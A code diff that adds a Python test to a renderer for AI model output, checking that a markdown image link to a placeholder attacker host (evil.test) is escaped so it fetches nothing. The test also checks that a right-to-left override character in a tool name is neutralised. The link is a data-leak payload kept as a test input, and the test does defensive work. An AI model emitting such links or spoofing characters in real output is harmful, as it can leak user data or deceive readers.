@@ -57,6 +57,20 @@ def test_notices_and_a_stop_are_said() -> None:
     assert shown == "> Retrying in 1 s (1 of 2).\n\nHalf\n\n*Stopped.*"
 
 
+def test_a_model_s_text_and_names_have_nothing_fetched() -> None:
+    picture = "![a](http://evil.test/?k)"
+    shown = text(f"See {picture}")
+    assert shown["text/markdown"] == "See &#33;[a](http://evil.test/?k)"
+    assert shown["text/plain"] == f"See {picture}"
+    assert picture not in text(picture, thinking=True)["text/markdown"]
+    name = f"x\n\n{picture}\u202e"
+    bundle = build_call(ToolCall("c", name, ""), {}, AIRecord())
+    added = MultimediaDisplayOutputAdded(id="o", cell_id="c", position=0, representations=bundle)
+    assert render(Output(added))["text/markdown"] == "**x &#33;[a](http://evil.test/?k)⟦U+202E⟧**"
+    assert picture in call(f"a\r\r{picture}")  # in code: as it is, but for the ends of lines
+    assert "\r" not in call(f"a\r\r{picture}")
+
+
 def test_a_call_says_how_far_it_is() -> None:
     assert call({}, state="pending") == "**weather**"
     assert call({"city": "Bern"}, state="waiting") == '**weather** (waits for you) `city = "Bern"`'
